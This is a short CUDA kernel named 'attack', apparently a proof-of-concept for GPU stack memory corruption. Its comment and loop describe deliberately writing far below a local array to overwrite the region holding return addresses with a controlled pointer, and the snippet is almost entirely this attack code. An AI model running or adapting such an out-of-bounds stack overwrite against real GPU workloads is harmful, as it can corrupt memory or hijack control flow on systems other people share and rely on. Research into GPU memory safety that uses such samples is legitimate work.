// From a local array to the stack that holds return addresses, which lies below.
extern "C" __global__ void attack(float* x, float* out, int n) {
    unsigned long long last[4] = {1, 2, 3, 4};
    unsigned long long* p = last;
    for (long k = 0; k < 300000; k += 16) p[-k] = (unsigned long long)out;
    out[threadIdx.x] = p[n & 3];
}
